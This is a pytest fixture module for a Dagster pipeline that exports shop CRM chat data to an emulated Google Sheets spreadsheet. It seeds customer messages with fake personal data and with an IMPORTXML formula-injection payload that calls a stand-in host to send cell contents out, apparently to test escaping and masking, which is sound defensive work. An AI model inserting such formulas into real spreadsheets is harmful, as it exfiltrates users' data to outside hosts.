"""A small shop, an emulated spreadsheet, and a week of it published: what the tests of the spreadsheet start from."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from typing import Any

import dagster as dg
import pytest

from orchestration import runner
from orchestration.definitions import defs
from resources.warehouse.engine import Warehouse
from tests.emulators.retailcrm import RetailCRMEmulator
from tests.emulators.sheets import SheetsEmulator
from tests.emulators.shop.model import Shop

MONDAY = date(2026, 11, 16)
WEEK, TITLE = "2026-W46", "2026-W46 (09.11–15.11)"
README = "Читать первым"
DIGESTS = ["weekly_digest_managers", "weekly_digest_channels"]
TABS = [
    *DIGESTS, "manager_report", "weekly_trend", "weekly_examples", "chat_advice", "weekly_behavior_delta_managers",
    "behavior_snapshot_managers", "manager_summary", "channel_summary", "chats_raw", "messages_raw",
]  # fmt: skip
"""Those that data_status speaks of, in their order."""
ABOVE = {
    README: 2, **dict.fromkeys(DIGESTS, 3), "manager_report": 2, "weekly_trend": 2, "weekly_examples": 3,
    "chat_advice": 2, "weekly_behavior_delta_managers": 3, "behavior_snapshot_managers": 2,
}  # fmt: skip
"""Lines above the heading: which week, as of when; what colours mean."""
OF_TALKS = ["calls_and_chats", "call_results"]
"""Those that are shown once there are calls or scores: not in these tests."""
KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in ("read_me", *TABS, *OF_TALKS, "data_status")]
FORMULA = '=IMPORTXML("http://example.invalid/?"&A1)'
SECRET = "Мой номер 8 (926) 123-45-67, почта anna@example.ru, карта 4111 1111 1111 1111; заказ 1234567 на 12 990 ₽"
MASKED = "Мой номер [телефон], почта [почта], карта [карта]; заказ 1234567 на 12 990 ₽"


QUIET = {"loggers": {"console": {"config": {"log_level": "CRITICAL"}}}}


@pytest.fixture(scope="module")
def account() -> Iterator[RetailCRMEmulator]:
    """A small shop in which a customer writes what must not leave as it is."""
    shop = Shop.tiny(3, MONDAY)
    customers = sorted(one.id for one in shop.messages if one.sender == "customer")
    shop.edit_message(customers[0], SECRET)
    shop.edit_message(customers[1], FORMULA)
    with RetailCRMEmulator(shop, rate=None) as emulator:
        yield emulator


@pytest.fixture(scope="module")
def sheets() -> Iterator[SheetsEmulator]:
    with SheetsEmulator(quota=None, large="allow") as emulator:
        yield emulator


@pytest.fixture(scope="module", autouse=True)
def spreadsheet(connected: Warehouse, sheets: SheetsEmulator) -> Iterator[None]:
    """The environment of an installation that writes a spreadsheet."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GOOGLE_SHEETS_ID", sheets.spreadsheet_id)
        patch.setenv("GOOGLE_SERVICE_ACCOUNT_JSON", str(sheets.service_account_file))
        patch.setenv("SHEETS_BASE_URL", sheets.base_url)
        patch.setenv("SHEETS_REQUESTS_PER_MINUTE", "1000")
        yield


@pytest.fixture(scope="module")
def published(connected: Warehouse, instance: dg.DagsterInstance) -> list[runner.RunSummary]:
    return runner.run_weeks(WEEK, WEEK, instance=instance)


def show(instance: dg.DagsterInstance, *, rewrite: bool = False) -> dg.ExecuteInProcessResult:
    """Only the spreadsheet, from the marts that are there."""
    config = {**QUIET, "ops": {"exports_sheets": {"config": {"rewrite": rewrite}}}}
    return defs.resolve_job_def("publish_week").execute_in_process(
        instance=instance, asset_selection=KEYS, raise_on_error=False, run_config=config
    )


def table(sheets: SheetsEmulator, tab: str) -> list[dict[str, Any]]:
    heading, *rows = sheets.values(f"'{tab}'!A1:AZ")[ABOVE.get(tab, 0) :]
    return [dict(zip(heading, row + [""] * (len(heading) - len(row)), strict=True)) for row in rows]


def reading(sheets: SheetsEmulator) -> dict[str, list[list[Any]]]:
    return {tab: sheets.values(f"'{tab}'!A1:AZ") for tab in (README, *TABS)}


def problem(result: dg.ExecuteInProcessResult) -> str:
    (event,) = [event for event in result.all_events if event.is_step_failure]
    failure = event.step_failure_data
    return str(failure.user_failure_data.description if failure.user_failure_data else failure.error)
